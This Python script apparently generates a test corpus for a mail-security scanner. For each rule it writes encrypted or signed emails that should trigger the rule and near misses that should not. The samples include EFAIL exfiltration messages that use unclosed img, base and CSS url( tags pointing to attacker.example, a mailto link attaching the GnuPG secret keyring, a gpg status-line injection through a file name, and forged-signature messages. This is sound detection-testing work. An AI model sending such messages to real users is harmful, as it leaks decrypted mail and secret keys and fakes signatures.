#!/usr/bin/env python3
"""Builds Corpus/efail/: for every MIMEScan rule, messages that must trigger it and near
misses that must not, with manifest.json saying which rules each message triggers.

Calls gpg and openssl. Test keys live in Corpus/keys/ (made on the first run, reused after;
test-only, see Corpus/keys/README.md). Encryption is randomised, so a rebuild gives new
ciphertexts with the same structure and the same expected findings.

    python3 Corpus/efail/make.py            # rebuild every message, manifest.json and goldens
    python3 Corpus/efail/make.py --goldens  # only rewrite the goldens (after a dump format change)

Like every Corpus/ folder, each x.eml has its `mimekit dump --json` golden files x.json
(LF) and x.crlf.json (CRLF), which Corpus/verify-with-python.py checks against Python's
email package; they are written with the mimekit in $MIMEKIT (default .build/debug/mimekit).
"""
import base64, json, os, random, re, shutil, subprocess, sys, tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
KEYS = os.path.join(HERE, "..", "keys")
manifest = []


def run(args, data=None, env=None):
    result = subprocess.run(args, input=data, capture_output=True, env=env)
    if result.returncode != 0:
        sys.exit(f"{' '.join(args)} failed: {result.stderr.decode(errors='replace')}")
    return result.stdout


# ---------------------------------------------------------------- keys

def ensure_keys():
    os.makedirs(KEYS, exist_ok=True)
    for who, mail in [("alice", "alice@example.org"), ("eve", "eve@attacker.example")]:
        key, crt = f"{KEYS}/{who}.key", f"{KEYS}/{who}.crt"
        if not os.path.exists(crt):
            run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", crt,
                 "-days", "36500", "-subj", f"/CN={who.title()} Test/emailAddress={mail}",
                 "-addext", f"subjectAltName=email:{mail}"])
    sec = f"{KEYS}/alice.gpg.sec.asc"
    if not os.path.exists(sec):
        home = tempfile.mkdtemp(prefix="gh.", dir="/tmp")
        try:
            run(["gpg", "--homedir", home, "--batch", "--pinentry-mode", "loopback", "--passphrase", "",
                 "--quick-gen-key", "Alice Test <alice@example.org>", "rsa2048", "sign", "never"])
            listing = run(["gpg", "--homedir", home, "--with-colons", "--list-keys"]).decode()
            fingerprint = next(line.split(":")[9] for line in listing.splitlines() if line.startswith("fpr:"))
            run(["gpg", "--homedir", home, "--batch", "--pinentry-mode", "loopback", "--passphrase", "",
                 "--quick-add-key", fingerprint, "rsa2048", "encr", "never"])
            open(sec, "wb").write(run(["gpg", "--homedir", home, "--batch", "--pinentry-mode", "loopback",
                                       "--passphrase", "", "--armor", "--export-secret-keys"]))
            open(f"{KEYS}/alice.gpg.pub.asc", "wb").write(run(["gpg", "--homedir", home, "--armor", "--export"]))
        finally:
            subprocess.run(["gpgconf", "--homedir", home, "--kill", "all"])
            shutil.rmtree(home, ignore_errors=True)


class GnuPG:
    def __enter__(self):
        self.home = tempfile.mkdtemp(prefix="gh.", dir="/tmp")
        self.gpg(["--import", f"{KEYS}/alice.gpg.sec.asc"])
        self.gpg(["--import-ownertrust"], b"")
        return self

    def __exit__(self, *exc):
        subprocess.run(["gpgconf", "--homedir", self.home, "--kill", "all"])
        shutil.rmtree(self.home, ignore_errors=True)

    def gpg(self, args, data=None):
        return run(["gpg", "--homedir", self.home, "--batch", "--yes", "--trust-model", "always",
                    "--pinentry-mode", "loopback", "--passphrase", ""] + args, data)

    def encrypt(self, plaintext, armor=True, extra=()):
        return self.gpg(["--encrypt", "-r", "alice@example.org"] + (["--armor"] if armor else []) + list(extra),
                        plaintext)


# ---------------------------------------------------------------- S/MIME

def cms(args, data):
    return run(["openssl", "cms", "-outform", "DER"] + args, data)


def b64(data):
    text = base64.b64encode(data).decode()
    return "\n".join(text[i:i + 64] for i in range(0, len(text), 64)) + "\n"


def smime_encrypt(plaintext, cipher="-aes-256-gcm"):
    return cms(["-encrypt", "-binary", cipher, f"{KEYS}/alice.crt"], plaintext)


def smime_sign(content, who="alice", detached=True, extra_signers=()):
    args = ["-sign", "-binary", "-signer", f"{KEYS}/{who}.crt", "-inkey", f"{KEYS}/{who}.key"]
    for other in extra_signers:
        args += ["-signer", f"{KEYS}/{other}.crt", "-inkey", f"{KEYS}/{other}.key"]
    if not detached:
        args.append("-nodetach")
    return cms(args, content)


# ---------------------------------------------------------------- messages

def headers(subject, sender="Alice Test <alice@example.org>", extra=""):
    return (f"From: {sender}\nTo: Alice Test <alice@example.org>\nSubject: {subject}\n"
            f"Date: Sun, 29 Nov 2026 12:00:00 +0000\nMessage-ID: <{subject.replace(' ', '-')}@example.org>\n"
            f"MIME-Version: 1.0\n{extra}")


def write(name, text, expect, expect_with_keys=None, note=""):
    with open(os.path.join(HERE, name), "w", newline="\n") as f:
        f.write(text)
    entry = {"file": name, "expect": sorted(expect), "note": note}
    if expect_with_keys is not None:
        entry["expectWithKeys"] = sorted(expect_with_keys)
    manifest.append(entry)


def pgp_mime(armored, boundary="enc", extra_headers=""):
    return (f"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"{boundary}\"\n"
            f"{extra_headers}\n--{boundary}\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
            f"--{boundary}\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\n"
            f"{armored}\n--{boundary}--\n")


def pkcs7(der, smime_type, name="smime.p7m", extra=""):
    return (f"Content-Type: application/pkcs7-mime; smime-type={smime_type}; name={name}\n"
            f"Content-Transfer-Encoding: base64\n{extra}\n{b64(der)}")


def armor_binary(data, label="PGP MESSAGE"):
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    crc &= 0xFFFFFF
    return (f"-----BEGIN {label}-----\n\n{b64(data)}="
            f"{base64.b64encode(crc.to_bytes(3, 'big')).decode()}\n-----END {label}-----\n")


MDC = "CRY-PGP-MDC-V1"


def build():
    inner_text = b"Content-Type: text/plain; charset=utf-8\n\nThe merger closes on Friday. Keep it quiet.\n"
    with GnuPG() as g:
        armored = g.encrypt(inner_text).decode()
        binary = g.encrypt(inner_text, armor=False)

        # -- near misses shared by many rules: well-formed encrypted mail
        write("pgpmime-root.eml", headers("pgp mime root") + pgp_mime(armored), [MDC],
              note="near miss: PGP/MIME at the root, SEIPD v1 (info only)")
        write("inline-pgp-alone.eml", headers("inline alone") + "Content-Type: text/plain\n\n" + armored, [MDC],
              note="near miss for EF-DE-PARTIAL: the armored block alone")

        # -- EF-DE-NONROOT
        write("ef-de-nonroot.eml", headers("nonroot") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
              "--mix\nContent-Type: text/plain\n\nPlease see below.\n--mix\n" + pgp_mime(armored) + "--mix--\n",
              ["EF-DE-NONROOT", MDC], note="PGP/MIME next to a cleartext sibling")
        write("nonroot-single-child.eml", headers("single child") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
              "--mix\n" + pgp_mime(armored) + "--mix--\n", [MDC],
              note="near miss: a multipart/mixed wrapper with no other child")

        # -- EF-DE-HTMLOPEN (the EFAIL direct-exfiltration message, and variants)
        def efail(open_html, close_html, name, expect, note):
            write(name, headers(name[:-4]) + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
                  f"--mix\nContent-Type: text/html\n\n{open_html}\n--mix\n" + pgp_mime(armored) +
                  f"--mix\nContent-Type: text/html\n\n{close_html}\n--mix--\n", expect, note=note)
        efail('<img src="http://attacker.example/', '">', "ef-de-htmlopen-img.eml",
              ["EF-DE-HTMLOPEN", "EF-DE-NONROOT", "BC-REMOTE", MDC], "EFAIL: an unclosed <img src=\" before the ciphertext")
        efail("<xmp>", "</xmp>", "ef-de-htmlopen-xmp.eml", ["EF-DE-HTMLOPEN", "EF-DE-NONROOT", MDC], "an unclosed <xmp>")
        efail('<base href="http://attacker.example/"><a href="x', '">click</a>', "ef-de-htmlopen-base.eml",
              ["EF-DE-HTMLOPEN", "EF-DE-NONROOT", MDC], "<base> and an unclosed href")
        efail("<p>Hello</p>", "<p>Bye</p>", "htmlopen-closed.eml", ["EF-DE-NONROOT", MDC],
              "near miss for EF-DE-HTMLOPEN: closed HTML around a non-root encrypted part")
        smime_gcm = smime_encrypt(inner_text)
        write("ef-de-htmlopen-smime.eml", headers("htmlopen smime") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
              "--mix\nContent-Type: text/html\n\n<style>body{background:url(\n--mix\n" + pkcs7(smime_gcm, "authEnveloped-data") +
              "--mix\nContent-Type: text/html\n\n)}</style>\n--mix--\n",
              ["EF-DE-HTMLOPEN", "EF-DE-NONROOT"], note="an open <style> and CSS url( before S/MIME")

        # -- EF-DE-PARTIAL
        write("ef-de-partial.eml", headers("partial") + "Content-Type: text/plain\n\nHi Bob, as discussed:\n\n" + armored +
              "\nCheers\n", ["EF-DE-PARTIAL", MDC], note="text before and after an inline block")
        write("ef-de-partial-two-blocks.eml", headers("two blocks") + "Content-Type: text/plain\n\n" + armored + "\n" +
              g.encrypt(b"second\n").decode(), ["EF-DE-PARTIAL", MDC], note="two armored blocks in one part")

        # -- RE-HIDE
        write("re-hide-attachment.eml", headers("hide attachment") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
              "--mix\nContent-Type: text/plain\n\nSee you tomorrow.\n--mix\n" +
              pkcs7(smime_gcm, "authEnveloped-data", extra="Content-Disposition: attachment; filename=invoice.p7m\n") +
              "--mix--\n", ["RE-HIDE", "EF-DE-NONROOT"], note="encrypted part marked as an attachment")
        write("re-hide-blank-lines.eml", headers("hide blank") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
              "--mix\nContent-Type: text/plain\n\nSee you tomorrow." + "\n" * 40 + "\n--mix\n" +
              pkcs7(smime_gcm, "authEnveloped-data") + "--mix--\n", ["RE-HIDE", "EF-DE-NONROOT"],
              note="encrypted part below 40 blank lines")
        write("re-hide-rfc822.eml", headers("hide rfc822") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
              "--mix\nContent-Type: text/plain\n\nForwarding this.\n--mix\nContent-Type: message/rfc822\n\n" +
              headers("inner", sender="Bob <bob@example.org>") + pgp_mime(armored) + "--mix--\n",
              ["RE-HIDE", "EF-DE-NONROOT", MDC], note="encrypted message inside message/rfc822 (both medium)")

        # -- RE-REPLYTO
        write("re-replyto.eml", headers("replyto", extra="Reply-To: Alice <alice@attacker.example>\n") + pgp_mime(armored),
              ["RE-REPLYTO", MDC], note="replies go to another address")
        write("replyto-same.eml", headers("replyto same", extra="Reply-To: alice@example.org\n") + pgp_mime(armored),
              [MDC], note="near miss: Reply-To equals From")

        # -- BC-REMOTE
        write("bc-remote-mailto.eml", headers("mailto") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
              "--mix\nContent-Type: text/html\n\n<p>Please <a href=\"mailto:eve@attacker.example?subject=x&amp;attach=~/.gnupg/secring.gpg\">reply</a></p>\n--mix\n" +
              pgp_mime(armored) + "--mix--\n", ["BC-REMOTE", "EF-DE-NONROOT", MDC], note="mailto with attach=")
        write("remote-no-encryption.eml", headers("newsletter") + "Content-Type: text/html\n\n"
              "<p><img src=\"https://news.example/logo.png\"></p>\n", [],
              note="near miss for BC-REMOTE: remote images without encrypted content")
        inner_html = (b"Content-Type: text/html\n\n<p>secret<img src=\"http://attacker.example/beacon.png\"></p>\n")
        write("bc-remote-decrypted.eml", headers("remote inside") + pgp_mime(g.encrypt(inner_html).decode()), [MDC],
              [MDC, "BC-REMOTE"], note="with keys: a remote image inside the decrypted HTML")

        # -- CRY-PGP-SED: no integrity protection
        sed = g.gpg(["--rfc2440", "--armor", "--encrypt", "-r", "alice@example.org", "--cipher-algo", "AES256"], inner_text).decode()
        write("cry-pgp-sed.eml", headers("sed") + pgp_mime(sed), ["CRY-PGP-SED"], ["CRY-PGP-SED", "CRY-PGP-MDCFAIL"],
              note="gpg --rfc2440: a tag 9 packet")

        # -- CRY-PGP-MDC-V1 is pgpmime-root.eml; its near miss is a synthetic SEIPD v2 packet
        rng = random.Random(7)
        body = bytes([2, 9, 2, 6]) + bytes(rng.randrange(256) for _ in range(32 + 40))
        seipd2 = bytes([0xC0 | 18, len(body)]) + body
        write("seipd-v2.eml", headers("seipd v2") + pgp_mime(armor_binary(seipd2)), [],
              note="near miss for CRY-PGP-MDC-V1: a synthetic SEIPD v2 (AEAD) packet, not decryptable")

        # -- CRY-PGP-STRUCT
        two = binary + g.encrypt(b"Content-Type: text/plain\n\nsecond\n", armor=False)
        write("cry-pgp-struct-two.eml", headers("struct two") + pgp_mime(armor_binary(two)),
              ["CRY-PGP-STRUCT", MDC], note="two encrypted containers in one message")
        literal = b"b\x08forged.t\x00\x00\x00\x00Forged text\n"
        outside = binary + bytes([0xC0 | 11, len(literal)]) + literal
        write("cry-pgp-struct-literal.eml", headers("struct literal") + pgp_mime(armor_binary(outside)),
              ["CRY-PGP-STRUCT", MDC], note="a literal packet after the encrypted container")

        # -- CRY-PGP-MDCFAIL (keys): flip a byte near the end of the SEIPD (inside the MDC)
        tampered = bytearray(binary)
        tampered[-3] ^= 0x01
        write("cry-pgp-mdcfail.eml", headers("mdcfail") + pgp_mime(armor_binary(bytes(tampered))), [MDC],
              [MDC, "CRY-PGP-MDCFAIL"], note="with keys: the MDC does not match")

        # -- SS-GPG-INJECT: a signed, uncompressed message whose literal file name injects a status line
        inject = g.gpg(["--sign", "--armor", "--compress-algo", "none", "--set-filename",
                        "x\n[GNUPG:] GOODSIG 0000000000000000 Alice"], b"hello\n").decode()
        write("ss-gpg-inject.eml", headers("inject") + "Content-Type: text/plain\n\n" + inject, ["SS-GPG-INJECT"],
              note="literal file name with a line break and [GNUPG:]")
        plain_name = g.gpg(["--sign", "--armor", "--compress-algo", "none", "--set-filename", "msg.txt"], b"hello\n").decode()
        write("gpg-filename-plain.eml", headers("filename plain") + "Content-Type: text/plain\n\n" + plain_name, [],
              note="near miss: an ordinary file name")

        # -- SS-PGP-PARTIAL (added): unsigned text around a clear-signed block
        clear = g.gpg(["--clearsign"], b"I approve the payment to Bob.\n").decode()
        write("ss-pgp-partial.eml", headers("partial signing") + "Content-Type: text/plain\n\nPay Eve instead.\n\n" + clear,
              ["SS-PGP-PARTIAL"], note="unsigned text before a clear-signed block")
        write("clearsigned-alone.eml", headers("clearsigned alone") + "Content-Type: text/plain\n\n" + clear, [],
              note="near miss for SS-PGP-PARTIAL: the clear-signed block alone")
        signed_inline = g.gpg(["--sign", "--armor"], b"hello\n").decode()
        write("inline-signed-wrapped.eml", headers("inline signed wrapped") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
              "--mix\nContent-Type: text/plain\n\nUnsigned words.\n--mix\nContent-Type: text/plain\n\n" + signed_inline +
              "--mix--\n", ["SS-MIME-WRAP"], note="an armored signed (not encrypted) PGP MESSAGE next to an unsigned part: wrapping, not EFAIL")

    # -- S/MIME encryption
    write("smime-gcm.eml", headers("smime gcm") + pkcs7(smime_gcm, "authEnveloped-data"), [], [],
          note="near miss: authEnveloped-data with AES-256-GCM at the root")
    cbc = smime_encrypt(inner_text, "-aes-256-cbc")
    write("cry-smime-cbc.eml", headers("smime cbc") + pkcs7(cbc, "enveloped-data"), ["CRY-SMIME-CBC"], ["CRY-SMIME-CBC"],
          note="enveloped-data with AES-256-CBC")
    write("cry-smime-label.eml", headers("smime label") + pkcs7(smime_gcm, "signed-data"), ["CRY-SMIME-LABEL"],
          note="smime-type=signed-data over authEnvelopedData")
    tampered = bytearray(smime_gcm)
    tampered[-40] ^= 0x01
    write("cry-smime-aeadfail.eml", headers("aeadfail") + pkcs7(bytes(tampered), "authEnveloped-data"), [],
          ["CRY-SMIME-AEADFAIL"], note="with keys: the GCM tag does not verify")

    # -- S/MIME signatures
    content = b"Content-Type: text/plain\r\n\r\nI approve the payment.\r\n"

    def multipart_signed(der, boundary="sig"):
        return (f"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; "
                f"boundary=\"{boundary}\"\n\n--{boundary}\n" + content.decode().replace("\r\n", "\n") +
                f"\n--{boundary}\nContent-Type: application/pkcs7-signature; name=smime.p7s\n"
                f"Content-Transfer-Encoding: base64\n\n{b64(der)}\n--{boundary}--\n")
    detached = smime_sign(content)
    write("smime-signed.eml", headers("smime signed") + multipart_signed(detached), [],
          note="near miss: a detached signature by the From address at the root")
    write("ss-cms-econtent.eml", headers("econtent") + multipart_signed(smime_sign(content, detached=False)),
          ["SS-CMS-ECONTENT"], note="the detached signature's SignedData also carries eContent")
    write("ss-cms-signers-two.eml", headers("two signers") + pkcs7(smime_sign(content, detached=False, extra_signers=["eve"]),
          "signed-data"), ["SS-CMS-SIGNERS"], note="opaque signed-data with two SignerInfos (medium)")
    certs_only = run(["openssl", "crl2pkcs7", "-nocrl", "-certfile", f"{KEYS}/alice.crt", "-outform", "DER"])
    write("ss-cms-signers-none.eml", headers("no signers") + pkcs7(certs_only, "signed-data"), ["SS-CMS-SIGNERS"],
          note="signed-data with no SignerInfo")
    write("certs-only.eml", headers("certs only") + pkcs7(certs_only, "certs-only", name="certs.p7c"), [],
          note="near miss for SS-CMS-SIGNERS: a certs-only message")
    write("ss-mime-wrap.eml", headers("wrap") + "Content-Type: multipart/mixed; boundary=\"mix\"\n\n"
          "--mix\nContent-Type: text/plain\n\nI owe Eve 1000 EUR.\n--mix\n" + multipart_signed(detached) + "--mix--\n",
          ["SS-MIME-WRAP"], note="an unsigned sibling before a signed part")
    write("ss-id-mismatch.eml", headers("mismatch") + multipart_signed(smime_sign(content, who="eve")), ["SS-ID-MISMATCH"],
          note="From alice, signed by eve's certificate")
    write("ss-id-header-display.eml", headers("display", sender="\"alice@example.org\" <eve@attacker.example>") +
          multipart_signed(smime_sign(content, who="eve")), ["SS-ID-HEADER"],
          note="signed by eve, From display name shows alice's address")
    write("ss-id-header-two-from.eml", headers("two from", sender="alice@example.org, eve@attacker.example") +
          multipart_signed(detached), ["SS-ID-HEADER"], note="two From mailboxes on a signed message")
    write("id-header-plain-name.eml", headers("plain name", sender="Alice Test <alice@example.org>",
          extra="Sender: Alice Test <alice@example.org>\n") + multipart_signed(detached), [],
          note="near miss for SS-ID-HEADER: one From, a display name without an address, Sender = From")

    # -- SS-UI
    def html_and_signed(html):
        # An unsigned HTML part next to a signed one: what the banner sits beside.
        return ("Content-Type: multipart/alternative; boundary=\"alt\"\n\n--alt\nContent-Type: text/html\n\n" + html +
                "\n--alt\n" + multipart_signed(detached) + "--alt--\n")
    write("ss-ui.eml", headers("ui") + html_and_signed("<div style=\"background:#cfc;border:1px solid green\">"
          "<img src=\"cid:padlock\"> Good signature from Alice Test &lt;alice@example.org&gt;</div><p>Pay Eve.</p>"),
          ["SS-UI", "SS-MIME-WRAP"], note="an HTML banner imitating a signature indicator next to a signed part")
    write("ui-near-miss.eml", headers("ui near") + html_and_signed("<p>I will sign the contract tomorrow.</p>"),
          ["SS-MIME-WRAP"], note="near miss for SS-UI")

    with open(os.path.join(HERE, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")


def write_goldens():
    mimekit = os.environ.get("MIMEKIT", os.path.join(HERE, "..", "..", ".build", "debug", "mimekit"))
    for entry in manifest:
        raw = open(os.path.join(HERE, entry["file"]), "rb").read()
        stem = os.path.join(HERE, entry["file"][:-len(".eml")])
        for data, suffix in [(raw, ".json"), (re.sub(rb"(?<!\r)\n", b"\r\n", raw), ".crlf.json")]:
            open(stem + suffix, "wb").write(run([mimekit, "dump", "--json", "-"], data))


if __name__ == "__main__":
    if "--goldens" in sys.argv[1:]:
        manifest = json.load(open(os.path.join(HERE, "manifest.json")))
        write_goldens()
        sys.exit(0)
    ensure_keys()
    build()
    write_goldens()
    print(f"{len(manifest)} messages")
